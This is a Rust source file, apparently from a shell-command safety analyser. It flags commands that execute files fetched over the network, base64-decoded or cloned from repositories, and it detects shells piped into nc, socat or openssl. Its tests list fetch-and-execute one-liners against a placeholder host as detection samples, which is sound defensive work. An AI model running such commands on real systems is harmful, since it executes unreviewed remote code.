//! Files that the line itself fetches or decodes, and then runs: nobody has seen them.

use alloc::collections::BTreeSet;
use alloc::string::String;
use alloc::vec::Vec;

use crate::script::{Command, Effect, EffectKind, RedirectKind, Script, Word};

/// Longer chains of pipes are not followed.
const MOST_PIPES: usize = 8;

/// Programs that run the file they are given.
const RUNNERS: &[&str] = &[
    ".",
    "ash",
    "bash",
    "bun",
    "dash",
    "deno",
    "fish",
    "java",
    "ksh",
    "lua",
    "node",
    "nodejs",
    "osascript",
    "perl",
    "php",
    "powershell",
    "pwsh",
    "pypy",
    "python",
    "ruby",
    "sh",
    "source",
    "zsh",
];

/// Says of each command that runs such a file that it runs what can't be seen.
pub(crate) fn mark(script: &mut Script, sure: &[bool]) {
    let mut unseen = Unseen::default();
    for index in 0..script.commands.len() {
        let Some(command) = script.commands.get(index) else { return };
        let file = if unseen.is_empty() { None } else { unseen.run_by(script, command) };
        let file =
            file.or_else(|| answers_somebody(script, command).then(|| command.program.clone()));
        if let (Some(target), Some(command)) = (file, script.commands.get_mut(index)) {
            let kind = EffectKind::ExecuteUnknown;
            let target = Some(target);
            command.effects.push(Effect { kind, target, recursive: false, forced: false });
        }
        let Some(command) = script.commands.get(index) else { return };
        if let Some(folder) = cloned(command) {
            unseen.folders.insert(place(command, &folder));
        }
        if brings(script, command) || unseen.passed_on_by(command) {
            unseen.files.extend(written(command).map(|file| place(command, file)));
        } else if !unseen.is_empty() && sure.get(index) == Some(&true) {
            // Written anew, with something else.
            let anew = command.effects.iter().filter(|e| e.kind == EffectKind::Overwrite);
            for file in anew.filter_map(|effect| effect.target.as_ref()) {
                unseen.files.remove(&place(command, file));
            }
        }
    }
}

/// `cat pipe | sh | nc host`: a shell between two ends of a connection.
fn answers_somebody(script: &Script, command: &Command) -> bool {
    if !matches!(command.name(), "nc" | "ncat" | "netcat" | "telnet" | "socat" | "openssl") {
        return false;
    }
    let feeds = command.piped_from.and_then(|index| script.commands.get(index));
    feeds.is_some_and(|shell| reads_code(shell) && shell.piped_from.is_some())
}

/// What nobody has seen.
#[derive(Default)]
struct Unseen {
    files: BTreeSet<String>,
    /// Everything in these.
    folders: BTreeSet<String>,
}

impl Unseen {
    fn is_empty(&self) -> bool {
        self.files.is_empty() && self.folders.is_empty()
    }

    fn holds(&self, place: &str) -> bool {
        let below = |folder: &String| {
            place.strip_prefix(folder.as_str()).is_some_and(|rest| rest.starts_with('/'))
        };
        self.files.contains(place) || self.folders.iter().any(below)
    }

    /// The file of those that a command runs, or is fed to run.
    fn run_by(&self, script: &Script, command: &Command) -> Option<Word> {
        if let Some(file) = run_by(command).find(|file| self.holds(&place(command, file))) {
            return Some(file.clone());
        }
        if !reads_code(command) {
            return None;
        }
        let mut at = command.piped_from;
        for _ in 0..MOST_PIPES {
            let feeds = script.commands.get(at?)?;
            let mut read = feeds.effects.iter().filter(|e| e.kind == EffectKind::Read);
            let file = read.find_map(|effect| {
                effect.target.as_ref().filter(|file| self.holds(&place(feeds, file)))
            });
            if file.is_some() {
                return file.cloned();
            }
            at = feeds.piped_from;
        }
        None
    }

    /// Copies, moves and links of such a file are such files.
    fn passed_on_by(&self, command: &Command) -> bool {
        let copies = matches!(
            command.name(),
            "cat" | "cp" | "mv" | "ln" | "link" | "install" | "dd" | "rsync" | "tee" | "sed" | "tr"
        );
        copies
            && !self.is_empty()
            && command.effects.iter().any(|effect| {
                matches!(effect.kind, EffectKind::Read | EffectKind::Move)
                    && effect.target.as_ref().is_some_and(|file| self.holds(&place(command, file)))
            })
    }
}

/// The folder that a repository of somebody's is copied into.
fn cloned(command: &Command) -> Option<Word> {
    let mut words = command.args.iter().filter(|word| !word.text.starts_with('-'));
    let clones = match command.name() {
        "git" | "hg" => words.next()?.text == "clone",
        "gh" | "glab" => words.next()?.text == "repo" && words.next()?.text == "clone",
        _ => return None,
    };
    if !clones {
        return None;
    }
    let given = command.effects.iter().find(|e| e.kind == EffectKind::Create && e.recursive);
    if let Some(folder) = given.and_then(|effect| effect.target.clone()) {
        return Some(folder);
    }
    let from = words.find(|word| word.text.contains('/'))?;
    let name = from.text.trim_end_matches('/').rsplit(['/', ':']).next()?;
    Some(Word { text: String::from(name.trim_end_matches(".git")), ..from.clone() })
}

/// A file's path as the line has it, from where the line began.
pub(crate) fn place(command: &Command, file: &Word) -> String {
    let whole = crate::walk::join(command.cwd.as_ref(), file).text;
    let mut parts: Vec<&str> = Vec::new();
    for part in whole.split('/') {
        match part {
            "." | "" => {}
            ".." if parts.last().is_some_and(|last| *last != "..") => {
                parts.pop();
            }
            part => parts.push(part),
        }
    }
    let root = if whole.starts_with('/') { "/" } else { "" };
    alloc::format!("{root}{}", parts.join("/"))
}

fn written(command: &Command) -> impl Iterator<Item = &Word> {
    let kinds = [EffectKind::Overwrite, EffectKind::Create];
    let effects = command.effects.iter().filter(move |e| kinds.contains(&e.kind) && !e.recursive);
    effects.filter_map(|effect| effect.target.as_ref())
}

/// Whether what a command writes comes from the network or out of a code.
fn brings(script: &Script, command: &Command) -> bool {
    let mut at = Some(command);
    for _ in 0..MOST_PIPES {
        let Some(command) = at else { return false };
        if fetches(command) || decodes(command) {
            return true;
        }
        at = command.piped_from.and_then(|index| script.commands.get(index));
    }
    false
}

fn fetches(command: &Command) -> bool {
    let remote = |word: &Word| {
        word.text.split_once(':').is_some_and(|(host, _)| host.len() > 1 && !host.contains('/'))
    };
    match command.name() {
        "rsync" | "scp" => command.args.iter().rev().skip(1).any(remote),
        _ => command.effects.iter().any(|effect| effect.kind == EffectKind::Network),
    }
}

fn decodes(command: &Command) -> bool {
    let has = |options: &[&str]| command.args.iter().any(|w| options.contains(&w.text.as_str()));
    match command.name() {
        "base64" | "base32" | "basenc" => has(&["-d", "-D", "--decode", "-di", "-id"]),
        "xxd" => has(&["-r", "-rp", "-r -p"]),
        "openssl" => has(&["-d"]),
        "uudecode" => true,
        _ => false,
    }
}

/// Whether a command runs the file it is given.
fn is_runner(command: &Command) -> bool {
    let name = command.name();
    let bare = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    RUNNERS.contains(&name) || RUNNERS.contains(&bare)
}

/// Whether a command runs what it is fed.
fn reads_code(command: &Command) -> bool {
    is_runner(command) && command.args.iter().all(|word| word.text.starts_with('-'))
}

/// The files that a command runs.
fn run_by(command: &Command) -> impl Iterator<Item = &Word> {
    let itself = Some(&command.program).filter(|program| program.text.contains('/'));
    let runs = is_runner(command);
    let mut operands = command.args.iter().filter(|word| !word.text.starts_with('-'));
    let module = command.args.iter().any(|word| matches!(word.text.as_str(), "-m" | "-c" | "-e"));
    let first = operands.next().filter(|_| runs && !module);
    let fed = command.redirects.iter().filter(|r| r.kind == RedirectKind::Read).map(|r| &r.target);
    let fed = fed.filter(move |_| runs && first.is_none() && !module);
    let makes = matches!(command.name(), "make" | "gmake");
    let makefile = command.effects.iter().filter(move |e| makes && e.kind == EffectKind::Read);
    let makefile = makefile.filter_map(|effect| effect.target.as_ref());
    let loaded = command.assigns.iter().filter(|(name, _)| name.starts_with("LD_"));
    itself.into_iter().chain(first).chain(fed).chain(makefile).chain(loaded.map(|(_, word)| word))
}

#[cfg(test)]
mod tests {
    use crate::{Dialect, EffectKind, Limits, read};

    fn unseen(line: &str) -> bool {
        let script = read(line, Dialect::Posix, Limits::default());
        let mut effects = script.commands.iter().flat_map(|command| &command.effects);
        effects.any(|effect| effect.kind == EffectKind::ExecuteUnknown)
    }

    #[test]
    fn what_was_fetched_is_run_unseen() {
        for line in [
            "curl -o x u.example/x; sh ./x",
            "curl -sSfL u.example/x > x && chmod +x x && ./x",
            "curl u.example/x | tee x; . ./x",
            "wget u.example/a/x.sh && bash x.sh",
            "wget -P d u.example/x.sh; sh d/x.sh",
            "cd d && wget u.example/x.sh; sh x.sh",
            "curl -O u.example/x.py; python3.12 -u x.py",
            "curl -o a u.example; cp a b; mv b c; sh c",
            "base64 -d < a > b; ./b",
            "scp host:x y && sh y",
            "curl -o x u.example; bash < x",
            "curl -o x u.example; cat x | bash",
            "curl -o x u.example; true && echo a > x; bash x",
            "curl -o x u.example; if a; then echo a > x; fi; bash x",
            "curl -o x u.example; echo a >> x; bash x",
            "git clone https://u.example/a/b && sh b/x.sh",
            "git clone -q --depth 1 git@u.example:a/b.git; cd b && ./x",
            "git clone https://u.example/a/b c; c/x",
            "gh repo clone a/b && python3 b/x.py",
        ] {
            assert!(unseen(line), "{line}");
        }
    }

    #[test]
    fn what_is_only_read_is_not_run() {
        for line in [
            "curl -o x u.example/x; cat x",
            "curl -o x.json u.example; python3 build.py x.json",
            "curl -o x.json u.example; python3 -m json.tool x.json",
            "curl -o x u.example; sh y",
            "curl -o d/x u.example; sh x",
            "sh x; curl -o x u.example",
            "wget u.example/a.tar.gz && tar xzf a.tar.gz",
            "base64 a > b; ./b",
            "curl -o x u.example; echo a > x; bash x",
            "curl u.example | tee x > /dev/null; echo a > x; bash x",
            "git clone https://u.example/a/b && cd b && make",
            "git clone https://u.example/a/b && sh c/x.sh",
            "sh b/x.sh; git clone https://u.example/a/b",
        ] {
            assert!(!unseen(line), "{line}");
        }
    }
}
